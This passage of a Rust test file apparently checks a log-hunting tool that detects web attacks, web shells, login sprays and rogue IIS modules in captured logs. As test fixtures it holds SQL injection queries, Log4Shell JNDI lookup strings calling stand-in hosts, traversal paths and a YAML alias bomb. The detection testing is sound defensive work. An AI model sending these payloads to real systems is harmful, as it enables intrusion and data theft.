    assert!(d.evidence.summary.contains("192.168.198.149"), "{}", d.evidence.summary);
    // The accounts tried, counted: the first record's random name is one
    // of 3561; Administrator, whose password was guessed, is the rest.
    assert!(
        d.evidence.summary.contains(
            "; TargetUserName Administrator 3560 times, JcDfcZTc once; SubStatus 0xc000006a 3558 times"
        ),
        "{}",
        d.evidence.summary
    );
    let end = d.end.expect("a correlation's detection ends at its last member");
    assert_eq!(end.to_string(), "2016-09-19T16:52:49.399674600Z");
    let quiet = run(
        &[
            hayabusa.join("ID4625-failed login with denied access due to account restriction.evtx"),
            samples
                .join("evtx-sbousseaden-EVTX-ATTACK-SAMPLES/CA_4624_4625_LogonType2_LogonProc_chrome.evtx"),
        ],
        bundled(),
    );
    assert!(quiet.detections.is_empty(), "{:?}", hits(&quiet));
}

/// Sigma's Sysmon categories (network connections, remote threads,
/// process access, file events...) map onto Sysmon's event ids, so a
/// responder's own rules fire on the real captures: Tunna's w3wp talking to
/// RDP and SMB over loopback, and a web shell's w3wp injecting a thread
/// into notepad (Rotten Potato).
#[test]
fn rules_of_sysmon_categories_fire_on_the_real_captures() {
    let Some(samples) = common::samples("the Sysmon category rules") else { return };
    let attacks = samples.join("evtx-sbousseaden-EVTX-ATTACK-SAMPLES");
    let rule = |title: &str, category: &str, selection: &str| {
        format!(
            "title: {title}\nlogsource: {{product: windows, category: {category}}}\ndetection:\n    \
             selection:\n{selection}    condition: selection\nlevel: high\n"
        )
    };
    let rules = [
        rule(
            "worker to a local service",
            "network_connection",
            "        Image|endswith: '\\w3wp.exe'\n        Initiated: 'true'\n        DestinationPort: [3389, 445]\n",
        ),
        rule("worker thread in another process", "create_remote_thread", "        SourceImage|endswith: '\\w3wp.exe'\n"),
        rule(
            "worker opens a process in full",
            "process_access",
            "        SourceImage|endswith: '\\w3wp.exe'\n        GrantedAccess: '0x1fffff'\n",
        ),
        rule("script written by the worker", "file_event", "        Image|endswith: '\\w3wp.exe'\n"),
    ]
    .join("---\n");
    let mut loaded = LoadReport::default();
    loaded.add_text(&rules, Path::new("sysmon.yml"));
    assert!(loaded.skipped.is_empty(), "{:?}", loaded.skipped);
    let report = run(&[attacks], loaded);
    let mut got: Vec<(String, String, i64)> = report
        .detections
        .iter()
        .map(|d| {
            let file = d.evidence.path.rsplit(['/', '\\']).next().unwrap_or_default().to_string();
            (d.rule.meta.title.clone(), file, d.evidence.record.map(RecordId::as_written).unwrap_or_default())
        })
        .collect();
    got.sort();
    let tunna = "tunna_iis_rdp_smb_tunneling_sysmon_3.evtx";
    let potato = "privesc_rotten_potato_from_webshell_metasploit_sysmon_1_8_3.evtx";
    // The process access right after a process creation is the worker
    // opening the child it started (cmd.exe in the web-shell capture).
    let shell = "LM_typical_IIS_webshell_sysmon_1_10_traces.evtx";
    let want: Vec<(String, String, i64)> = [
        ("worker opens a process in full", shell, 1045),
        ("worker opens a process in full", potato, 5409),
        ("worker thread in another process", potato, 5411),
        ("worker to a local service", tunna, 35076),
        ("worker to a local service", tunna, 35079),
        ("worker to a local service", tunna, 35202),
        ("worker to a local service", tunna, 35205),
    ]
    .iter()
    .map(|(t, f, r)| (t.to_string(), f.to_string(), *r))
    .collect();
    assert_eq!(got, want);
}

/// Hostile rule files beside the pack (a YAML bomb, a condition nested
/// thousands deep, a timespan past 64 bits, a folder linking back to
/// itself) each aborted or hung the run: now each is skipped with its
/// reason, and the web-shell day gives the pack's detections unchanged.
#[cfg(unix)]
#[test]
fn hostile_rule_files_are_skipped_with_reasons_and_the_hunt_goes_on() {
    let dir = tempfile::tempdir().expect("tempdir");
    let evidence = three_hours_of("web-shell", dir.path());
    let rules = dir.path().join("rules");
    std::fs::create_dir_all(&rules).expect("mkdir");
    let rule = |condition: &str| {
        format!(
            "title: t\nname: t\nlogsource: {{category: webserver}}\ndetection:\n    selection:\n        \
             cs-uri-stem|contains: '/x'\n    condition: {condition}\n"
        )
    };
    let mut bomb = vec!["a0: &a0 [l, l, l, l, l, l, l, l, l, l]".to_string()];
    for i in 1..9 {
        bomb.push(format!("a{i}: &a{i} [{}]", vec![format!("*a{}", i - 1); 10].join(", ")));
    }
    std::fs::write(rules.join("bomb.yml"), format!("{}\n{}", bomb.join("\n"), rule("selection")))
        .expect("writes");
    let deep = format!("{}selection{}", "(".repeat(100_000), ")".repeat(100_000));
    std::fs::write(rules.join("deep.yml"), rule(&deep)).expect("writes");
    let forever = format!(
        "{}---\ntitle: c\ncorrelation:\n    type: event_count\n    rules: [t]\n    timespan: 200000000000000d\n    \
         condition:\n        gte: 2\n",
        rule("selection")
    );
    std::fs::write(rules.join("forever.yml"), forever).expect("writes");
    std::os::unix::fs::symlink("..", rules.join("up")).expect("links");

    let mut loaded = bundled();
    loaded.add_path(&rules, false).expect("reads");
    let loaded = loaded.finish();
    let reasons: Vec<String> =
        loaded.skipped.iter().map(|s| format!("{}: {}", s.path.display(), s.reason)).collect();
    for (file, why) in [
        ("bomb.yml", "aliases expand to"),
        ("deep.yml", "nested more than 64 levels deep"),
        ("forever.yml", "no usable timespan"),
        ("up", "is read once"),
    ] {
        assert!(reasons.iter().any(|r| r.contains(file) && r.contains(why)), "{file}: {reasons:#?}");
    }
    let with_hostile = run(std::slice::from_ref(&evidence), loaded);
    let pack_alone = run(&[evidence], bundled());
    let titles = |r: &HuntReport| r.detections.iter().map(|d| d.rule.meta.title.clone()).collect::<Vec<_>>();
    assert!(!titles(&pack_alone).is_empty());
    assert_eq!(titles(&with_hostile), titles(&pack_alone));
}

/// A FREB trace's request, as web rules read it.
fn freb_trace(url: &str, agent: &str, client: &str) -> String {
    let event = |name: &str, data: &str| {
        format!(
            "<Event xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\">\n <System>\n  \
             <Provider Name=\"WWW Server\" Guid=\"{{3A2A4E84-4C21-4981-AE10-3FDA0D9B0F83}}\"/>\n  \
             <EventID>0</EventID>\n  <Level>4</Level>\n  <Opcode>1</Opcode>\n  \
             <TimeCreated SystemTime=\"2025-03-01T10:00:00.100Z\"/>\n  <Computer>WEB01</Computer>\n \
             </System>\n <EventData>\n{data} </EventData>\n <RenderingInfo Culture=\"en-US\">\n  \
             <Opcode>{name}</Opcode>\n </RenderingInfo>\n</Event>\n"
        )
    };
    format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\" ?>\n<failedRequest url=\"{url}\" siteId=\"1\" \
         appPoolId=\"ShopPool\" verb=\"GET\" statusCode=\"500.0\" timeTaken=\"1200\" \
         xmlns:freb=\"http://schemas.microsoft.com/win/2006/06/iis/freb\">\n{}{}{}</failedRequest>\n",
        event("GENERAL_REQUEST_START", "  <Data Name=\"SiteId\">1</Data>\n"),
        event(
            "GENERAL_ENDPOINT_INFORMATION",
            &format!(
                "  <Data Name=\"RemoteAddress\">{client}</Data>\n  <Data Name=\"RemotePort\">50123</Data>\n"
            )
        ),
        event(
            "GENERAL_REQUEST_HEADERS",
            &format!("  <Data Name=\"Headers\">Host: shop.example.com\r\nUser-Agent: {agent}\r\n</Data>\n")
        ),
    )
}

/// Web rules read FREB traces too (the URL's path and query, the verb,
/// status and client, the request headers' agent): a traced SQL injection
/// is found when only the trace holds it, and shown once, from the access
/// log, when the log holds the same request (and twice when the log's is
/// another client's). An ordinary traced failure is nothing.
#[test]
fn web_rules_read_traced_requests_once() {
    let dir = tempfile::tempdir().expect("tempdir");
    let web = dir.path().join("WEB01");
    let traces = web.join("FailedReqLogFiles").join("W3SVC1");
    std::fs::create_dir_all(&traces).expect("mkdir");
    std::fs::write(
        traces.join("fr000001.xml"),
        freb_trace(
            "https://shop.example.com:443/products.aspx?id=1%20UNION%20SELECT%20name,password%20FROM%20users--",
            "sqlmap/1.7",
            "203.0.113.9",
        ),
    )
    .expect("writes");
    std::fs::write(
        traces.join("fr000002.xml"),
        freb_trace(
            "https://shop.example.com:443/products.aspx?id=12",
            "Mozilla/5.0 (Windows NT 10.0)",
            "203.0.113.9",
        ),
    )
    .expect("writes");
    let sqli = |r: &HuntReport| -> Vec<(String, String, Option<u64>)> {
        r.detections
            .iter()
            .filter(|d| d.rule.meta.title.starts_with("SQL Injection"))
            .map(|d| {
                (
                    d.host.clone(),
                    d.evidence.path.rsplit('/').next().unwrap_or_default().to_string(),
                    d.evidence.line,
                )
            })
            .collect()
    };
    let traced_only = run(std::slice::from_ref(&web), bundled());
    assert_eq!(sqli(&traced_only), [("WEB01".to_string(), "fr000001.xml".to_string(), Some(3))]);
    assert!(traced_only.detections.iter().all(|d| d.evidence.path.ends_with("fr000001.xml")));
    let d = &traced_only.detections[0];
    assert_eq!((d.site.as_deref(), d.app_pool.as_deref()), (Some("1"), Some("ShopPool")));
    assert!(d.evidence.summary.contains("from 203.0.113.9"), "{}", d.evidence.summary);
    // An allow-listed client is no attack, traced from an IPv6 address too
    // (whose port the trace's summary joins without brackets).
    let ipv6 = dir.path().join("v6");
    std::fs::create_dir_all(&ipv6).expect("mkdir");
    std::fs::write(
        ipv6.join("fr000003.xml"),
        freb_trace(
            "https://shop.example.com/products.aspx?id=1%20UNION%20SELECT%20a%20FROM%20b--",
            "x",
            "2001:db8::10",
        ),
    )
    .expect("writes");
    let allowed = |networks: Vec<(std::net::IpAddr, u8)>| {
        let engine = Hunt::new(bundled().finish()).allow_clients(networks);
        hunt(std::slice::from_ref(&ipv6), &ReadConfig::default(), &Scope::default(), &engine, &|_| {})
    };
    assert_eq!(allowed(Vec::new()).detections.len(), 1);
    let network = ("2001:db8::".parse().expect("an address"), 32);
    assert!(allowed(vec![network]).detections.is_empty());
    // Behind a proxy, the allowed scanner is the client the trace's
    // X-Forwarded-For names, as in the access log.
    std::fs::write(
        ipv6.join("fr000003.xml"),
        freb_trace(
            "https://shop.example.com/products.aspx?id=1%20UNION%20SELECT%20a%20FROM%20b--",
            "x\r\nX-Forwarded-For: 198.51.100.23",
            "10.0.0.4",
        ),
    )
    .expect("writes");
    assert_eq!(allowed(Vec::new()).detections.len(), 1);
    let scanner = ("198.51.100.0".parse().expect("an address"), 24);
    assert!(allowed(vec![scanner]).detections.is_empty(), "the allowed scanner behind the proxy");
    let proxy = ("10.0.0.4".parse().expect("an address"), 32);
    assert_eq!(allowed(vec![proxy]).detections.len(), 1, "the proxy allows no one behind it");

    let logs = web.join("LogFiles").join("W3SVC1");
    std::fs::create_dir_all(&logs).expect("mkdir");
    // The access log: the same injection, in the trace's second, from `client`.
    let logged_from = |client: &str| {
        let log = format!(
            "#Software: Microsoft Internet Information Services 10.0\n#Fields: date time s-computername \
             cs-method cs-uri-stem cs-uri-query c-ip cs(User-Agent) sc-status sc-substatus sc-win32-status \
             time-taken\n2025-03-01 10:00:01 WEB01 GET /products.aspx \
             id=1%20UNION%20SELECT%20name,password%20FROM%20users-- {client} sqlmap/1.7 500 0 0 1200\n"
        );
        std::fs::write(logs.join("u_ex250301.log"), log).expect("writes");
    };
    logged_from("203.0.113.9");
    let both = run(std::slice::from_ref(&web), bundled());
    assert_eq!(sqli(&both), [("WEB01".to_string(), "u_ex250301.log".to_string(), Some(3))]);
    // The log's injection came from another client in the same second: the
    // traced one is another request, and is shown too.
    logged_from("198.51.100.7");
    let two = run(&[web], bundled());
    assert_eq!(
        sqli(&two),
        [
            ("WEB01".to_string(), "fr000001.xml".to_string(), Some(3)),
            ("WEB01".to_string(), "u_ex250301.log".to_string(), Some(3))
        ]
    );
}

/// The generated web-shell day's drop: w3wp writes the page two minutes
/// before its first POST (Sysmon 11), and that write is its own detection;
/// the healthy day's worker saving an upload and asking its database is
/// none.
#[test]
fn the_worker_writing_the_shell_is_found_and_its_ordinary_files_are_not() {
    let report = hunt_scenario("web-shell");
    let wrote: Vec<_> =
        report.detections.iter().filter(|d| d.rule.meta.title == "IIS Worker Writes A Script File").collect();
    assert_eq!(wrote.len(), 1, "{wrote:#?}");
    assert!(wrote[0].evidence.path.ends_with("Microsoft-Windows-Sysmon%4Operational.evtx"));
    assert!(wrote[0].matched.iter().any(|(f, v)| f == "TargetFilename" && v.ends_with("\\update.aspx")));
    let first_post = report
        .detections
        .iter()
        .filter(|d| d.rule.meta.title == "Script Requested Under aspnet_client")
        .map(|d| d.time)
        .min()
        .expect("the shell's requests are found");
    assert_eq!(first_post.seconds() - wrote[0].time.seconds(), 120);
    let healthy = hunt_scenario("healthy");
    let worker_rules = [
        "IIS Worker Writes A Script File",
        "IIS Worker Connects Over Loopback To Remote Desktop, SMB, RPC, WinRM Or SSH",
    ];
    assert!(!healthy.detections.iter().any(|d| worker_rules.contains(&d.rule.meta.title.as_str())));
}

/// A script that only ever takes POSTs and answers them is how a dropped
/// web shell looks from the access log; EWS's SOAP service and WordPress
/// calling its own cron are not.
#[test]
fn a_script_nobody_gets_but_that_answers_posts_is_a_web_shell_sign() {
    let report = hunt_scenario("web-shell");
    // The chain of a request to the shell and w3wp starting a shell names
    // the site (from the request) and the app pool (from the worker).
    let chain = report
        .detections
        .iter()
        .find(|d| d.rule.meta.level == Level::Critical)
        .expect("the web shell's chain is found");
    assert_eq!((chain.site.as_deref(), chain.app_pool.as_deref()), (Some("1"), Some("ShopPool")));
    let native: Vec<_> =
        report.detections.iter().filter(|d| d.rule.meta.origin == "native:post-only-script").collect();
    assert_eq!(native.len(), 1, "{native:#?}");
    assert!(native[0].evidence.summary.starts_with("4 POSTs answered 200"), "{}", native[0].evidence.summary);
    let Some(samples) = common::samples("the real-capture hunt tests") else { return };
    let real =
        run(&[samples.join("w3c-log2timeline-plaso"), samples.join("w3c-know-it-peru-WebKnowIT")], bundled());
    assert!(!real.detections.iter().any(|d| d.rule.meta.origin == "native:post-only-script"));
}

/// A script the site's visitors POST to (an AJAX handler) is the
/// application's, however rarely anyone GETs it; one POSTed from a single
/// address is reported, saying from how many clients.
#[test]
fn a_script_many_clients_post_to_is_not_a_web_shell_sign() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut log =
        String::from("#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query c-ip sc-status\r\n");
    for i in 0..40 {
        log.push_str(&format!(
            "2025-01-01 10:{i:02}:00 10.0.0.1 POST /api/save.ashx - 198.51.100.{i} 200\r\n"
        ));
    }
    for i in 0..4 {
        log.push_str(&format!("2025-01-01 11:0{i}:00 10.0.0.1 POST /uploads/up.aspx - 203.0.113.7 200\r\n"));
    }
    let path = dir.path().join("u_ex250101.log");
    std::fs::write(&path, log).expect("writes");
    let report = run(&[path], bundled());
    let native: Vec<_> =
        report.detections.iter().filter(|d| d.rule.meta.origin == "native:post-only-script").collect();
    assert_eq!(native.len(), 1, "{native:#?}");
    assert!(
        native[0]
            .evidence
            .summary
            .starts_with("4 POSTs answered 200 from 1 client, never asked for with GET"),
        "{}",
        native[0].evidence.summary
    );
}

/// A script the application's pages POST to as each of its signed-in users
/// (SharePoint's list views paging through `inplview.aspx`) is the
/// application's, even behind a proxy that shows every user as one client;
/// one POSTed by a single signed-in user (a stolen account driving a
/// shell) is still reported.
#[test]
fn a_script_several_users_post_to_through_one_proxy_is_not_a_web_shell_sign() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut log = String::from(
        "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query cs-username c-ip sc-status\r\n",
    );
    for (i, user) in ["CONTOSO\\jsmith", "CONTOSO\\mlee", "contoso\\JSMITH"].iter().enumerate() {
        log.push_str(&format!(
            "2025-07-18 09:0{i}:05 10.0.0.5 POST /_layouts/15/inplview.aspx List=%7B5F6A%7D&Paged=TRUE {user} 10.0.0.250 200\r\n"
        ));
    }
    // One operator, signed in under two spellings of one account, and
    // not signed in at all.
    for (i, user) in ["CONTOSO\\svc_backup", "svc_backup@contoso.com", "-"].iter().enumerate() {
        log.push_str(&format!(
            "2025-07-18 11:0{i}:00 10.0.0.5 POST /_layouts/15/sp1.aspx - {user} 10.0.0.250 200\r\n"
        ));
    }
    let path = dir.path().join("u_ex250718.log");
    std::fs::write(&path, log).expect("writes");
    let report = run(&[path], bundled());
    let native: Vec<_> = report
        .detections
        .iter()
        .filter(|d| d.rule.meta.origin == "native:post-only-script")
        .map(|d| d.evidence.summary.as_str())
        .collect();
    assert_eq!(native.len(), 1, "{native:#?}");
    assert!(native[0].contains("/_layouts/15/sp1.aspx"), "{native:#?}");
}

/// A detection shows the values the record gives for the fields its rule
/// reads: a Log4Shell string in the agent shows the agent, not the path
/// joined into a query form the rule also searched, nor the agent again
/// with its `+` read as spaces.
#[test]
fn a_detection_shows_the_values_the_record_gives() {
    let dir = tempfile::tempdir().expect("tempdir");
    let log = "#Fields: date time cs-method cs-uri-stem cs-uri-query c-ip cs(User-Agent) sc-status\r\n\
               2025-01-01 10:00:00 GET /index.aspx - 203.0.113.7 ${jndi:ldap://x.example/a}+(x) 200\r\n";
    let path = dir.path().join("u_ex250101.log");
    std::fs::write(&path, log).expect("writes");
    let report = run(&[path], bundled());
    let log4shell: Vec<_> =
        report.detections.iter().filter(|d| d.rule.meta.title.contains("Log4Shell")).collect();
    assert_eq!(log4shell.len(), 1, "{:#?}", report.detections);
    assert_eq!(
        log4shell[0].matched,
        [("c-useragent".to_string(), "${jndi:ldap://x.example/a}+(x)".to_string())]
    );
    // A query rule on a request without a query shows the form it read:
    // the traversal in the path.
    let dir = tempfile::tempdir().expect("tempdir");
    let log = "#Fields: date time cs-method cs-uri-stem cs-uri-query c-ip sc-status\r\n\
               2025-01-01 10:00:00 GET /scripts/..%c1%1c../winnt/system32/cmd.exe - 203.0.113.7 404\r\n";
    let path = dir.path().join("u_ex250101.log");
    std::fs::write(&path, log).expect("writes");
    let report = run(&[path], bundled());
    let traversal =
        report.detections.iter().find(|d| d.rule.meta.title.contains("Traversal")).expect("detected");
    assert_eq!(
        traversal.matched,
        [
            ("cs-uri-query".to_string(), "/scripts/..%c1%1c../winnt/system32/cmd.exe".to_string()),
            ("sc-status".to_string(), "404".to_string()),
        ]
    );
    // A traversal in the path of a request with a query shows the form
    // the rule matched in (path and query), not the query alone, which
    // holds none (sbousseaden's Nessus run, line 1160).
    let dir = tempfile::tempdir().expect("tempdir");
    let log = "#Fields: date time cs-method cs-uri-stem cs-uri-query c-ip sc-status\r\n\
               2025-01-01 10:00:00 GET /setup/setup-/../../log.jsp log=info&mode=asc 203.0.113.7 404\r\n";
    let path = dir.path().join("u_ex250101.log");
    std::fs::write(&path, log).expect("writes");
    let report = run(&[path], bundled());
    let traversal =
        report.detections.iter().find(|d| d.rule.meta.title.contains("Traversal")).expect("detected");
    assert_eq!(traversal.matched[0].1, "/setup/setup-/../../log.jsp?log=info&mode=asc");
    // An HTTP.sys row gives its query as logged, once: not again joined to
    // its path, nor decoded.
    let dir = tempfile::tempdir().expect("tempdir");
    let log = "#Software: Microsoft HTTP API 2.0\r\n#Version: 1.0\r\n#Date: 2025-01-01 10:00:00\r\n\
               #Fields: date time c-ip c-port s-ip s-port cs-version cs-method cs-uri streamid sc-status s-siteid s-reason s-queuename\r\n\
               2025-01-01 10:00:00 203.0.113.7 50000 10.0.0.1 443 HTTP/1.1 GET /get.aspx?f=..%2f..%2fwin.ini - 400 - BadRequest -\r\n";
    let path = dir.path().join("httperr1.log");
    std::fs::write(&path, log).expect("writes");
    let report = run(&[path], bundled());
    let traversal =
        report.detections.iter().find(|d| d.rule.meta.title.contains("Traversal")).expect("detected");
    assert_eq!(
        traversal.matched,
        [
            ("cs-uri-query".to_string(), "f=..%2f..%2fwin.ini".to_string()),
            ("sc-status".to_string(), "400".to_string())
        ]
    );
}

/// A value past 4 KiB is shown cut, ending with `…`: a detection of a
/// megabyte-long injection does not carry the megabyte.
#[test]
fn a_long_matched_value_is_cut() {
    let dir = tempfile::tempdir().expect("tempdir");
    let query = format!("id=1+union+select+{}", "a".repeat(100_000));
    let log = format!(
        "#Fields: date time cs-method cs-uri-stem cs-uri-query c-ip sc-status\r\n\
         2025-01-01 10:00:00 GET /item.aspx {query} 203.0.113.7 200\r\n"
    );
    let path = dir.path().join("u_ex250101.log");
    std::fs::write(&path, log).expect("writes");
    let report = run(&[path], bundled());
    let injection =
        report.detections.iter().find(|d| d.rule.meta.title.contains("SQL Injection")).expect("detected");
    let (field, value) = &injection.matched[0];
    assert_eq!(field, "cs-uri-query");
    assert!(value.starts_with("id=1+union+select+aaa") && value.ends_with('…'), "{}", &value[..40]);
    assert_eq!(value.len(), 4096 + '…'.len_utf8());
}

/// A request whose long query would push the matched user agent past the
/// evidence line's cut gives way: the line shows the agent.
#[test]
fn a_long_query_gives_way_to_the_matched_agent() {
    let dir = tempfile::tempdir().expect("tempdir");
    let query = format!("q={}", "a".repeat(2_000));
    let log = format!(
        "#Fields: date time cs-method cs-uri-stem cs-uri-query c-ip cs(User-Agent) sc-status\r\n\
         2025-01-01 10:00:00 GET /search {query} 203.0.113.7 ${{jndi:ldap://203.0.113.7/a}} 200\r\n"
    );
    let path = dir.path().join("u_ex250101.log");
    std::fs::write(&path, log).expect("writes");
    let report = run(&[path], bundled());
    let log4shell =
        report.detections.iter().find(|d| d.rule.meta.title.contains("Log4Shell")).expect("detected");
    let summary = &log4shell.evidence.summary;
    assert!(summary.starts_with("GET /search?q=aaa"), "{summary}");
    assert!(summary.contains("; c-useragent=${jndi:ldap://203.0.113.7/a}"), "{summary}");
    assert!(summary.len() <= 404, "{}", summary.len());
}

/// A module installed behind IIS shows in every trace IIS saves afterwards:
/// the backdoor scenario's traces name it, and no real trace's pipeline
/// (URL Rewrite, ANCM, ARR, ModSecurity, SiteMinder, App Service's modules)
/// is taken for one.
#[test]
fn a_module_outside_microsofts_set_in_a_trace_is_a_backdoor_sign() {
    let report = hunt_scenario("backdoor-module");
    let modules: Vec<_> =
        report.detections.iter().filter(|d| d.rule.meta.origin.starts_with("native:unknown")).collect();
    assert_eq!(modules.len(), 1, "{modules:#?}");
    let d = modules[0];
    assert_eq!(d.matched, [("ModuleName".to_string(), "SharedModule".to_string())]);
    assert!(d.evidence.path.ends_with("fr000001.xml") && d.evidence.line.is_some(), "{:?}", d.evidence);
    assert_eq!(d.app_pool.as_deref(), Some("ShopPool"));
    assert!(d.evidence.summary.starts_with("in the pipeline of 2 traces"), "{}", d.evidence.summary);
    let Some(samples) = common::samples("the real-capture hunt tests") else { return };
    let traces: Vec<PathBuf> = std::fs::read_dir(&samples)
        .expect("samples")
        .filter_map(Result::ok)
        .map(|e| e.path())
        .filter(|p| p.file_name().is_some_and(|n| n.to_string_lossy().starts_with("freb-")))
        .collect();
    assert!(traces.len() >= 4);
    let real = run(&traces, bundled());
    assert!(!real.detections.iter().any(|d| d.rule.meta.origin.starts_with("native:unknown")));
}

/// A 404 feeds the scanner burst and is never shown alone: the burst's
/// detection cites the first 404 of the first window that meets the
/// condition (thirty paths: its line, its request), names the site, and
/// counts within its own client; the other client's few 404s make nothing.
/// A scanner that keeps going is one detection: every window of thirty
/// paths after the first extends it, and the summary counts all seventy.
#[test]
fn a_scanner_burst_cites_its_first_404_and_no_404_is_shown_alone() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut log = String::from(
        "#Software: Microsoft Internet Information Services 10.0\n#Fields: date time s-sitename \
         s-computername cs-method cs-uri-stem cs-uri-query sc-status c-ip cs(User-Agent)\n",
    );
    for i in 0..3 {
        log.push_str(&format!(
            "2026-11-24 10:00:0{i} W3SVC2 WEB01 GET /old{i}.html - 404 10.0.0.9 Mozilla/5.0\n"
        ));
    }
    for i in 0..70 {
        log.push_str(&format!(
            "2026-11-24 10:{:02}:{:02} W3SVC2 WEB01 GET /probe/{i}.php q={i} 404 203.0.113.7 scan/1.0\n",
            1 + i / 60,
            i % 60
        ));
    }
    std::fs::write(dir.path().join("u_ex261124.log"), log).expect("writes");
    let report = run(&[dir.path().to_path_buf()], bundled());
    let titles: Vec<&str> = report.detections.iter().map(|d| d.rule.meta.title.as_str()).collect();
    assert_eq!(titles, ["Scanner Burst From One Client"], "{report:#?}");
    let burst = &report.detections[0];
    assert_eq!((burst.host.as_str(), burst.site.as_deref()), ("WEB01", Some("2")));
    assert_eq!(burst.evidence.line, Some(6), "the first 404 of the burst, after the three others");
    assert_eq!(burst.matched, [("c-ip".to_string(), "203.0.113.7".to_string())]);
    assert!(
        burst.evidence.summary.starts_with(
            "70 matches of Web Response Not Found (70 distinct cs-uri-stem) within 69 s from c-ip=203.0.113.7"
        ) && burst.evidence.summary.ends_with("; first: GET /probe/0.php?q=0 404 from 203.0.113.7"),
        "{}",
        burst.evidence.summary
    );
}

/// A 404's values are read from its one-line summary where it holds them:
/// paths that differ only past the summary's cut are still counted apart,
/// and each client is still its own group.
#[test]
fn values_past_the_summary_cut_are_still_counted() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut log = String::from("#Fields: date time cs-method cs-uri-stem sc-status c-ip\n");
    let long = "/a".repeat(300);
    for i in 0..30 {
        for client in ["203.0.113.7", "203.0.113.8"] {
            log.push_str(&format!("2026-11-24 10:00:{i:02} GET {long}/{i}.php 404 {client}\n"));
        }
    }
    std::fs::write(dir.path().join("u_ex261124.log"), log).expect("writes");
    let report = run(&[dir.path().to_path_buf()], bundled());
    let bursts: Vec<(&str, &str)> = report
        .detections
        .iter()
        .filter(|d| d.rule.meta.title == "Scanner Burst From One Client")
        .map(|d| (d.matched[0].1.as_str(), d.evidence.summary.as_str()))
        .collect();
    assert_eq!(bursts.len(), 2, "{report:#?}");
    for ((client, summary), expected) in bursts.iter().zip(["203.0.113.7", "203.0.113.8"]) {
        assert_eq!(*client, expected);
        assert!(
            summary.starts_with("30 matches of Web Response Not Found (30 distinct cs-uri-stem)"),
            "{summary}"
        );
    }
}

/// A correlation over a rule that reports (another correlation generates
/// it) and one that only feeds it reads both in one time order: a 404
/// followed by a login from the same client fires, the login before the
/// 404 does not, and the first match's line is the evidence.
#[test]
fn a_correlation_reads_reported_and_silent_matches_in_time_order() {
    let dir = tempfile::tempdir().expect("tempdir");
    let rules = "title: Login\nname: t_login\nlogsource:\n    category: webserver\ndetection:\n    \
                 selection:\n        cs-uri-stem: /login.aspx\n    condition: selection\nlevel: low\n---\n\
                 title: Missing\nname: t_missing\nlogsource:\n    category: webserver\ndetection:\n    \
                 selection:\n        sc-status: 404\n    condition: selection\nlevel: low\n---\n\
                 title: Every Login\ncorrelation:\n    type: event_count\n    rules: [t_login]\n    \
                 timespan: 1h\n    condition:\n        gte: 1\n    generate: true\nlevel: low\n---\n\
                 title: Missing Then Login\ncorrelation:\n    type: temporal_ordered\n    \
                 rules: [t_missing, t_login]\n    group-by: [c-ip]\n    timespan: 1m\nlevel: medium\n";
    let rule_file = dir.path().join("rules.yml");
    std::fs::write(&rule_file, rules).expect("writes");
    let logs = dir.path().join("logs");
    std::fs::create_dir(&logs).expect("mkdir");
    let log = "#Fields: date time cs-method cs-uri-stem sc-status c-ip\n\
               2026-11-24 10:00:00 GET /login.aspx 200 10.0.0.1\n\
               2026-11-24 10:00:05 GET /gone.aspx 404 10.0.0.1\n\
               2026-11-24 10:00:06 GET /gone.aspx 404 10.0.0.2\n\
               2026-11-24 10:00:07 GET /login.aspx 200 10.0.0.2\n";
    std::fs::write(logs.join("u_ex261124.log"), log).expect("writes");
    let mut loaded = LoadReport::default();
    loaded.add_path(&rule_file, false).expect("rules load");
    let report = run(&[logs], loaded);
    let fired: Vec<_> =
        report.detections.iter().filter(|d| d.rule.meta.title == "Missing Then Login").collect();
    assert_eq!(fired.len(), 1, "{:#?}", report.detections);
    assert_eq!(fired[0].matched, [("c-ip".to_string(), "10.0.0.2".to_string())]);
    assert_eq!(fired[0].evidence.line, Some(4), "the 404 of 10.0.0.2");
    assert!(!report.detections.iter().any(|d| d.rule.meta.title == "Missing"), "the 404s only feed");
    assert_eq!(report.detections.iter().filter(|d| d.rule.meta.title == "Login").count(), 2);
}

/// The SQL Server logins a client tried (MSSQL 18456, ERID 13026-13035:
/// ten logins from 10.0.2.17, Tunna's client, in a tenth of a second),
/// which nothing found before.
#[test]
fn a_login_spray_is_found_in_a_real_capture() {
    let Some(samples) = common::samples("SQL Server logins") else { return };
    let attacks = samples.join("evtx-sbousseaden-EVTX-ATTACK-SAMPLES");
    let report = run(&[attacks.join("MSSQL_multiple_failed_logon_EventID_18456.evtx")], bundled());
    let spray = report
        .detections
        .iter()
        .find(|d| d.rule.meta.title == "SQL Server Logins Tried From One Client")
        .expect("the spray");
    assert_eq!(spray.evidence.record.map(RecordId::as_written), Some(13026));
    assert!(spray.evidence.summary.contains("(10 distinct login)"), "{}", spray.evidence.summary);
}

/// A keyword rule names no field: its hit shows the value the keyword was
/// found in, once, as the log wrote it (SigmaHQ's source-code enumeration
/// on `u_ex160209.log` line 39, `GET /.git/HEAD`).
#[test]
fn a_keyword_hit_shows_the_value_it_was_found_in() {
    let (Some(dir), Some(samples)) = (sigma(), common::samples("the real-capture hunt tests")) else {
        return;
    };
    let mut rules = LoadReport::default();
    rules.add_path(&dir, false).expect("reads");
    let report = run(&[samples.join("w3c-know-it-peru-WebKnowIT/W3SVC1/u_ex160209.log")], rules);
    let hit = report
        .detections
        .iter()
        .find(|d| d.rule.meta.title == "Source Code Enumeration Detection by Keyword")
        .expect("the .git probe");
    assert_eq!(hit.evidence.line, Some(39));
    assert_eq!(hit.matched, [("cs-uri-stem".to_string(), "/.git/HEAD".to_string())]);
}

/// The generated FTP attack: the password that worked after thirty
/// refused is one high detection citing its 230; the healthy day's editor,
/// one typo and then a login, is none.
#[test]
fn a_password_guessed_on_the_ftp_service_is_the_login_after_the_guessing() {
    let report = hunt_scenario("ftp-password-guessing");
    let guessed: Vec<_> = report
        .detections
        .iter()
        .filter(|d| d.rule.meta.title == "Password Guessed On The FTP Service")
        .collect();
    assert_eq!(guessed.len(), 1, "{guessed:#?}");
    let d = guessed[0];
    assert_eq!(d.rule.meta.level, Level::High);
